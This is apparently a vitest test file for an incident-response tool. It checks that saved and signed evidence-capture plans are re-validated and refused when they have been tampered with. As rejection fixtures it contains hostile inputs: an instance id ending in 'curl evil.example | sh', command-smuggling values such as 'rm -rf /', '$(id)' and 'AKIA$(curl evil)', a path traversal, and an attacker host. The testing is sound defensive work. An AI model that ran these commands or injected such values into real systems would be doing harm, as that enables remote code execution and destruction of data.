/** A saved plan is input: apply re-parses its case and checks every step before any call (issue 19). */
import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { BadInputError, type InputProblem } from '../../src/core/errors.js';
import type { CapturePlan } from '../../src/core/types.js';
import { parseCase, type CaseInput } from '../../src/engine/case.js';
import { buildPlan, planDigest } from '../../src/engine/plan.js';
import { builtinProviders } from '../../src/engine/registry.js';
import { assertSignedPlan, assertUsablePlan, signPlan } from '../../src/engine/saved-plan.js';
import { generateSigningKey, localSigner } from '../../src/evidence/signing.js';
import type { Ec2Facts, InstanceFacts } from '../../providers/ec2/facts.js';
import type { DumpFacts } from '../../providers/dump/facts.js';
import { GOLDEN_CASES } from './fixtures/run-golden/cases.js';

const I1 = 'i-0123456789abcdef0';
const I2 = 'i-0fedcba9876543210';

function instance(id: string): InstanceFacts {
  return {
    instanceId: id,
    state: 'running',
    spot: false,
    rootDeviceType: 'ebs',
    vpcId: 'vpc-0a1b2c3d4e5f60718',
    availabilityZone: 'us-east-1a',
    tags: { Name: 'web; rm -rf / (a tag is whatever the owner wrote)' },
    enis: [
      {
        id: `eni-${id.slice(2)}`,
        vpcId: 'vpc-0a1b2c3d4e5f60718',
        subnetId: 'subnet-0a1b2c3d4e5f60718',
        groups: ['sg-0a1b2c3d4e5f60718'],
        requesterManaged: false,
        deviceIndex: 0,
      },
    ],
    volumes: [
      { id: `vol-${id.slice(2)}`, device: '/dev/xvda', deleteOnTermination: true, sizeGiB: 8, encrypted: false },
    ],
    autoScaling: { group: 'web-asg', lifecycleState: 'InService', targetGroupArns: [] },
    registrations: [
      {
        targetGroupArn: 'arn:aws:elasticloadbalancing:us-east-1:123456789012:targetgroup/web/50dc6c495c0c9188',
        port: 80,
      },
    ],
  };
}

/** A plan as `evidence plan --out` writes it: parsed case, facts in memory, then JSON. */
function savedPlan(input: CaseInput = {}): CapturePlan {
  const kase = parseCase(
    {
      incident: 'IR-SAVED-1',
      forensicCidrs: ['203.0.113.7/32'],
      forensicPorts: '22,8000-8100',
      store: 's3://holdfast-saved-plans/cases',
      region: 'us-east-1',
      targets: {
        ec2: { instances: [I1, I2], lockSnapshotsDays: 7, hashSnapshots: true },
        dump: { urls: ['postgres://forensic@db.internal:5432/orders'], passwordEnv: 'ORDERS_PW' },
      },
      ...input,
    },
    builtinProviders,
  );
  const ec2: Ec2Facts = {
    region: 'us-east-1',
    params: kase.targets.ec2 as Ec2Facts['params'],
    instances: [instance(I1), instance(I2)],
  };
  const dumpParams = kase.targets.dump as DumpFacts['params'] | undefined;
  const facts = new Map<string, unknown>([['ec2', ec2]]);
  if (dumpParams)
    facts.set('dump', {
      params: dumpParams,
      dumps: dumpParams.targets.map((t) => ({
        ...t,
        tool: 'pg_dump',
        toolVersion: 'pg_dump (PostgreSQL) 17.2',
        serverVersion: '17.2',
      })),
    } satisfies DumpFacts);
  return JSON.parse(JSON.stringify(buildPlan(kase, facts, builtinProviders))) as CapturePlan;
}

/** Edit a saved plan the way an attacker with the library would: change it, recompute the digest. */
function edited(plan: CapturePlan, change: (p: CapturePlan) => void): CapturePlan {
  const copy = JSON.parse(JSON.stringify(plan)) as CapturePlan;
  change(copy);
  return { ...copy, digest: planDigest(copy) };
}

function problemsOf(plan: unknown): InputProblem[] {
  try {
    assertUsablePlan(plan, builtinProviders);
  } catch (error) {
    expect(error).toBeInstanceOf(BadInputError);
    return (error as BadInputError).problems;
  }
  throw new Error('the plan was accepted');
}

const stepIndex = (plan: CapturePlan, id: string) => plan.steps.findIndex((s) => s.id === id);

describe('a saved plan is checked like fresh input', () => {
  it('plans as the planner writes them are accepted: s3 and fs stores, ports, several providers, low severity, no containment', () => {
    for (const input of [
      {},
      { store: '/tmp/evidence', forensicPorts: undefined },
      { severity: 'low' },
      { severity: 'low', approveContainment: true },
      { contain: false, targets: { ec2: { instances: [I1, I2] } } },
      { targets: { ec2: { instanceTags: ['team=web'], copyToAccount: '210987654321', kmsKey: 'alias/forensic' } } },
    ] as CaseInput[]) {
      const plan = savedPlan(input);
      expect(plan.steps.length).toBeGreaterThan(10);
      expect(assertUsablePlan(plan, builtinProviders)).toEqual(plan);
    }
  });

  it('the golden cases (every provider, high and low severity, all providers at once) are accepted as saved', () => {
    for (const c of GOLDEN_CASES) {
      const plan = JSON.parse(JSON.stringify(buildPlan(c.kase, new Map(Object.entries(c.facts)), builtinProviders)));
      expect(() => assertUsablePlan(plan, builtinProviders), c.name).not.toThrow();
    }
  });

  it('the attack from the issue: 0.0.0.0/0 admitted and a shell-laden instance id, digest recomputed', () => {
    const plan = savedPlan();
    const evil = 'i-0123456789abcdef0; curl evil.example | sh';
    const isolate = stepIndex(plan, `ec2:isolate/${I1}`);
    const wide = edited(plan, (p) => {
      p.case.forensicCidrs = ['0.0.0.0/0'];
    });
    expect(problemsOf(wide)).toEqual([
      expect.objectContaining({
        field: 'plan.case.forensicCidrs[0]',
        message: expect.stringContaining('wider than /16'),
      }),
    ]);
    const badId = edited(plan, (p) => {
      p.steps[isolate]!.inputs.instanceId = evil;
    });
    expect(problemsOf(badId)).toEqual([
      {
        field: `plan.steps[${isolate}].inputs.instanceId`,
        message: `step "ec2:isolate/${I1}": is ${JSON.stringify(evil)}, but the step's id says "${I1}"`,
      },
    ]);
    // The id, target and inputs all rewritten consistently: the instance is not the case's.
    const renamed = edited(plan, (p) => {
      const s = p.steps[isolate]!;
      Object.assign(s, { id: `ec2:isolate/${evil}`, target: `ec2:${evil}`, inputs: { ...s.inputs, instanceId: evil } });
    });
    expect(problemsOf(renamed).map((p) => p.field)).toEqual(expect.arrayContaining([`plan.steps[${isolate}].id`]));
    // Both at once, the case edited too: the case parser refuses both before any step is read.
    const both = edited(plan, (p) => {
      p.case.forensicCidrs = ['0.0.0.0/0'];
      (p.case.targets.ec2 as { instances: string[] }).instances.push(evil);
    });
    expect(problemsOf(both).map((p) => p.field)).toEqual([
      'plan.case.forensicCidrs[0]',
      'plan.case.targets.ec2.instances[2]',
    ]);
  });

  it("an instance the case does not name, another lock, a dump tool of the attacker's choosing: each named", () => {
    const plan = savedPlan();
    const other = 'i-0aaaaaaaaaaaaaaaa';
    const snap = stepIndex(plan, `ec2:snapshot/${I1}`);
    const dump = plan.steps.findIndex((s) => s.provider === 'dump');
    const cases: [(p: CapturePlan) => void, string, RegExp][] = [
      [
        (p) => {
          const s = p.steps[snap]!;
          Object.assign(s, {
            id: `ec2:snapshot/${other}`,
            target: `ec2:${other}`,
            inputs: { ...s.inputs, instanceId: other },
          });
        },
        `plan.steps[${snap}].inputs.instanceId`,
        /is not among targets\.ec2\.instances in the case/,
      ],
      [
        (p) => (p.steps[snap]!.inputs.lockDays = null),
        `plan.steps[${snap}].inputs.lockDays`,
        /targets\.ec2\.lockSnapshotsDays in the case says 7/,
      ],
      [
        (p) => (p.steps[snap]!.inputs.volumes = ['vol-x`id`']),
        `plan.steps[${snap}].inputs.volumes[0]`,
        /is not an EBS volume id/,
      ],
      [(p) => (p.steps[snap]!.inputs.extra = 1), `plan.steps[${snap}].inputs.extra`, /unknown field/],
      [(p) => (p.steps[snap]!.action = 'terminate'), `plan.steps[${snap}].action`, /is not an EC2 action/],
      [
        (p) => (p.steps[dump]!.inputs.tool = '/bin/sh'),
        `plan.steps[${dump}].inputs.tool`,
        /not one of the postgres dump tools \(pg_dump\)/,
      ],
      [
        (p) => (p.steps[dump]!.inputs.tool = '/tmp/attacker/pg_dump'),
        `plan.steps[${dump}].inputs.tool`,
        /on the PATH or in a system directory/,
      ],
      [
        (p) => (p.steps[dump]!.inputs.host = 'attacker.example'),
        `plan.steps[${dump}].inputs.host`,
        /targets\.dump in the case/,
      ],
    ];
    for (const [change, field, message] of cases) {
      const problems = problemsOf(edited(plan, change));
      expect(problems).toContainEqual({ field, message: expect.stringMatching(message) });
    }
  });

  it('what the planner guarantees is checked again: evidence before change, approval held, no containment under contain: false', () => {
    const plan = savedPlan();
    const isolate = stepIndex(plan, `ec2:isolate/${I1}`);
    // Containment no longer waits for the snapshot: evidence would not come first.
    const early = edited(plan, (p) => {
      p.steps[isolate]!.dependsOn = p.steps[isolate]!.dependsOn.filter((d) => !d.startsWith('ec2:snapshot/'));
    });
    expect(problemsOf(early)).toContainEqual({
      field: `plan.steps[${isolate}].dependsOn`,
      message: `step "ec2:isolate/${I1}": lacks ec2:snapshot/${I1} (an earlier phase of the same target)`,
    });
    const low = savedPlan({ severity: 'low' });
    const released = edited(low, (p) => {
      for (const s of p.steps) delete s.awaitsApproval;
      p.waiting = [];
    });
    const fields = problemsOf(released).map((p) => p.field);
    expect(fields).toContain('plan.waiting');
    expect(fields).toContain(`plan.steps[${isolate}].awaitsApproval`);
    const noContain = savedPlan({ contain: false, targets: { ec2: { instances: [I1, I2] } } });
    const added = edited(noContain, (p) => {
      p.steps.push({ ...plan.steps[isolate]!, dependsOn: [] });
    });
    expect(problemsOf(added)).toContainEqual(
      expect.objectContaining({ field: `plan.steps[${noContain.steps.length}].phase` }),
    );
  });

  it('the CLI names the plan file; an unknown case field and an edited case are refused', () => {
    const plan = savedPlan();
    const extra = edited(plan, (p) => Object.assign(p.case, { shell: 'sh' }));
    expect(() => assertUsablePlan(extra, builtinProviders, 'plan p.json')).toThrow(
      expect.objectContaining({ problems: [expect.objectContaining({ field: 'plan p.json: case.shell' })] }),
    );
    const store = edited(plan, (p) => {
      if (p.case.store.kind === 's3') p.case.store.bucket = 'Not_A_Bucket';
    });
    expect(problemsOf(store).map((p) => p.field)).toEqual(['plan.case.store']);
  });
});

describe('a signed plan: apply --require-signed runs only the reviewed plan', () => {
  const keys = mkdtempSync(join(tmpdir(), 'hf-plan-keys-'));
  const reviewer = generateSigningKey(join(keys, 'reviewer'));
  const attacker = generateSigningKey(join(keys, 'attacker'));
  const reviewerPem = readFileSync(reviewer.publicKey, 'utf8');

  it('signing adds a signature over the digest and leaves the digest as it was', async () => {
    const plan = savedPlan();
    const signed = JSON.parse(JSON.stringify(await signPlan(plan, localSigner(reviewer.privateKey)))) as CapturePlan;
    expect(signed.digest).toBe(plan.digest);
    expect(planDigest(signed)).toBe(plan.digest);
    expect(signed.signature).toMatchObject({ kind: 'plan', incident: plan.incident, recordSha256: plan.digest });
    expect(assertUsablePlan(signed, builtinProviders)).toEqual(signed);
    expect(assertSignedPlan(signed, { publicKeyPem: reviewerPem })).toMatch(
      /ed25519 signature by local:\w+ .* is valid/,
    );
  });

  it('unsigned, edited after signing, re-signed by another key, or a broken signature: refused, naming the signature', async () => {
    const plan = savedPlan();
    const signed = await signPlan(plan, localSigner(reviewer.privateKey));
    const refusal = (p: CapturePlan, pin = true) => {
      try {
        assertSignedPlan(p, pin ? { publicKeyPem: reviewerPem } : {});
      } catch (error) {
        expect(error).toBeInstanceOf(BadInputError);
        const [problem] = (error as BadInputError).problems;
        expect(problem?.field).toBe('plan.signature');
        return problem!.message;
      }
      throw new Error('accepted');
    };
    expect(refusal(plan)).toMatch(/not signed/);
    // Edited and its digest recomputed, the reviewer's signature kept: the signature is for another digest.
    const edited = { ...signed, limitations: [] };
    expect(refusal({ ...edited, digest: planDigest(edited) })).toMatch(/different plan digest/);
    // Re-signed by the attacker: valid, but not the pinned reviewer's key.
    const resigned = await signPlan({ ...edited, digest: planDigest(edited) }, localSigner(attacker.privateKey));
    expect(refusal(resigned)).toMatch(/key other than the pinned/);
    expect(assertSignedPlan(resigned)).toMatch(/is valid/);
    const flipped = { ...signed, signature: { ...signed.signature, signature: Buffer.alloc(64).toString('base64') } };
    expect(refusal(flipped, false)).toMatch(/does not verify/);
    expect(refusal({ ...signed, signature: { kind: 'plan' } })).toMatch(/is not a signature record/);
  });
});

describe('RDS, IAM and Kubernetes steps of a saved plan are checked like fresh input', () => {
  /** A golden case's plan as `evidence plan --out` writes it. */
  const golden = (name: string): CapturePlan => savedPlanOf(name, () => {});
  /** A golden case changed first (its case and facts share their params, as discovery's do), then planned. */
  const savedPlanOf = (name: string, change: (c: (typeof GOLDEN_CASES)[number]) => void): CapturePlan => {
    const c = structuredClone(GOLDEN_CASES.find((g) => g.name === name)!);
    change(c);
    return JSON.parse(
      JSON.stringify(buildPlan(c.kase, new Map(Object.entries(c.facts)), builtinProviders)),
    ) as CapturePlan;
  };
  const refused = (plan: CapturePlan, edits: [(p: CapturePlan) => void, string, RegExp][]) => {
    for (const [change, field, message] of edits)
      expect(problemsOf(edited(plan, change)), field).toContainEqual({
        field,
        message: expect.stringMatching(message),
      });
  };
  /** Rewrite a step's subject consistently: id, target and the inputs naming it. */
  const renamed = (p: CapturePlan, i: number, from: string, to: string) => {
    const s = p.steps[i]!;
    const swap = (x: string) => x.split(from).join(to);
    Object.assign(s, { id: swap(s.id), target: swap(s.target), inputs: JSON.parse(swap(JSON.stringify(s.inputs))) });
  };

  it('RDS: a database the case does not name, shell characters in an id, another snapshot or vpc, a wrong action', () => {
    const plan = golden('rds-high');
    const snap = stepIndex(plan, 'rds:snapshot/instance/orders-db');
    const protect = stepIndex(plan, 'rds:protect/cluster/ledger');
    const isolate = stepIndex(plan, 'rds:isolate/instance/orders-db');
    const group = stepIndex(plan, 'rds:isolation-group/vpc-a');
    refused(plan, [
      [
        (p) => renamed(p, snap, 'orders-db', 'payments-db'),
        `plan.steps[${snap}].inputs.id`,
        /is not among targets\.rds\.dbInstances in the case/,
      ],
      [
        (p) => (p.steps[snap]!.inputs.id = 'orders-db; rm -rf /'),
        `plan.steps[${snap}].inputs.id`,
        /the step's id says "orders-db"/,
      ],
      [(p) => renamed(p, snap, 'orders-db', 'orders-db$(id)'), `plan.steps[${snap}].id`, /is not an RDS identifier/],
      [
        (p) => (p.steps[snap]!.inputs.snapshotId = 'attacker-copy'),
        `plan.steps[${snap}].inputs.snapshotId`,
        /the incident and the database says "hf-ir-gold-rds-db-orders-db"/,
      ],
      [
        (p) => (p.steps[snap]!.inputs.region = 'eu-west-1'),
        `plan.steps[${snap}].inputs.region`,
        /the case says "us-east-1"/,
      ],
      [
        (p) => (p.steps[protect]!.inputs.arn = 'arn:aws:rds:us-east-1:123456789012:cluster:other'),
        `plan.steps[${protect}].inputs.arn`,
        /is not the ARN of the step's database/,
      ],
      [
        (p) => (p.steps[isolate]!.inputs.approvePending = true),
        `plan.steps[${isolate}].inputs.approvePending`,
        /targets\.rds\.approvePending in the case says false/,
      ],
      [
        (p) => (p.steps[isolate]!.inputs.endpoint = 'db.internal`id`'),
        `plan.steps[${isolate}].inputs.endpoint`,
        /is not a host name/,
      ],
      [
        (p) => (p.steps[group]!.inputs.vpcId = 'vpc-other'),
        `plan.steps[${group}].inputs.vpcId`,
        /the step's id says "vpc-a"/,
      ],
      [(p) => (p.steps[snap]!.action = 'delete'), `plan.steps[${snap}].action`, /"delete" is not an RDS action/],
    ]);
  });

  it('IAM: a role or user the case does not name, shell characters, a reason the case does not give, another policy, a wrong action', () => {
    const plan = golden('iam-high');
    const role = stepIndex(plan, 'iam:record/role/ops-admin');
    const revoke = stepIndex(plan, 'iam:revoke-sessions/role/ops-admin');
    const keys = stepIndex(plan, 'iam:deactivate-keys/user/ci-deployer');
    refused(plan, [
      [
        (p) => renamed(p, keys, 'ci-deployer', 'payroll-admin'),
        `plan.steps[${keys}].inputs.userName`,
        /is not among targets\.iam\.users in the case/,
      ],
      [
        (p) => (p.steps[keys]!.inputs.activeKeys = ['AKIA$(curl evil)']),
        `plan.steps[${keys}].inputs.activeKeys[0]`,
        /is not an access key id/,
      ],
      [(p) => renamed(p, role, 'ops-admin', 'ops-admin;sh'), `plan.steps[${role}].id`, /is not an IAM role name/],
      [
        (p) => (p.steps[role]!.inputs.reasons = [{ kind: 'pod', via: 'shop/web-1' }]),
        `plan.steps[${role}].inputs.reasons[0]`,
        /is not a reason the case gives/,
      ],
      [
        (p) => (p.steps[revoke]!.inputs.policyName = 'AdministratorAccess'),
        `plan.steps[${revoke}].inputs.policyName`,
        /the incident and the role says "holdfast-revoke-IR-GOLD-IAM-ops-admin"/,
      ],
      [
        (p) => (p.steps[revoke]!.inputs.roleArn = 'arn:aws:iam::123456789012:role/other'),
        `plan.steps[${revoke}].inputs.roleArn`,
        /does not name role ops-admin/,
      ],
      [
        (p) => (p.steps[revoke]!.inputs.blastRadiusText = 'no one else'),
        `plan.steps[${revoke}].inputs.blastRadiusText`,
        /the blast radius says/,
      ],
      [
        (p) => (p.steps[keys]!.action = 'delete-user'),
        `plan.steps[${keys}].action`,
        /"delete-user" is not an IAM action/,
      ],
    ]);
    // Without instance profiles in the case, every role must be one the case names.
    const named = savedPlanOf('iam-high', (c) => {
      (c.kase.targets.iam as { instanceProfiles: string[] }).instanceProfiles = [];
      const facts = c.facts.iam as { roles: { name: string }[] };
      facts.roles = facts.roles.filter((r) => r.name === 'ops-admin');
    });
    expect(() => assertUsablePlan(named, builtinProviders)).not.toThrow();
    const other = stepIndex(named, 'iam:record/role/ops-admin');
    refused(named, [
      [
        (p) => renamed(p, other, 'ops-admin', 'billing-admin'),
        `plan.steps[${other}].inputs.roleName`,
        /is not among targets\.iam\.roles \(or targets\.iam\.podRoles\) in the case/,
      ],
    ]);
  });

  it('Kubernetes: a pod or node the case does not name, a path outside the namespace, another object name, a wrong action', () => {
    const plan = golden('kubernetes-high');
    const labels = stepIndex(plan, 'kubernetes:quarantine-labels/shop/web-1');
    const checkpoint = stepIndex(plan, 'kubernetes:checkpoint/shop/web-2');
    const cordon = stepIndex(plan, 'kubernetes:cordon/node-1');
    refused(plan, [
      [
        (p) => renamed(p, labels, 'web-1', 'payments-0'),
        `plan.steps[${labels}].inputs.pod.name`,
        /is not among targets\.kubernetes\.pods/,
      ],
      [
        (p) => renamed(p, labels, 'shop/web-1', 'kube-system/web-1'),
        `plan.steps[${labels}].inputs.pod.name`,
        /is not among targets\.kubernetes\.pods/,
      ],
      [(p) => renamed(p, labels, 'web-1', 'web-1;sh'), `plan.steps[${labels}].id`, /is not namespace\/name/],
      [
        (p) => (p.steps[labels]!.inputs.objectName = 'allow-all'),
        `plan.steps[${labels}].inputs.objectName`,
        /the incident and the pod says "holdfast-ir-gold-kube-web-1"/,
      ],
      [
        (p) =>
          ((p.steps[labels]!.inputs.pod as { owners: { path: string }[] }).owners[0]!.path =
            '/apis/apps/v1/namespaces/kube-system/deployments/coredns'),
        `plan.steps[${labels}].inputs.pod.owners[0].path`,
        /is not the API path of an object in namespace shop/,
      ],
      [
        (p) => ((p.steps[checkpoint]!.inputs.pod as { containers: string[] }).containers = ['../../nodes']),
        `plan.steps[${checkpoint}].inputs.pod.containers[0]`,
        /is not a container name/,
      ],
      [
        (p) => (p.steps[cordon]!.inputs.node = { ...(p.steps[cordon]!.inputs.node as object), name: 'node-9' }),
        `plan.steps[${cordon}].inputs.node.name`,
        /the step's id says "node-1"/,
      ],
      [
        (p) => (p.steps[cordon]!.action = 'drain'),
        `plan.steps[${cordon}].action`,
        /"drain" is not a Kubernetes action/,
      ],
    ]);
    // Checkpoints only when the case asks; nodes only those the case names when it names no pod.
    const noCheckpoint = savedPlanOf('kubernetes-high', (c) => {
      (c.kase.targets.kubernetes as { checkpoint: boolean }).checkpoint = false;
    });
    expect(() => assertUsablePlan(noCheckpoint, builtinProviders)).not.toThrow();
    expect(problemsOf(edited(noCheckpoint, (p) => p.steps.push({ ...plan.steps[checkpoint]! })))).toContainEqual({
      field: `plan.steps[${noCheckpoint.steps.length}].action`,
      message: expect.stringMatching(/checkpoint is planned only when targets\.kubernetes\.checkpoint is true/),
    });
  });
});
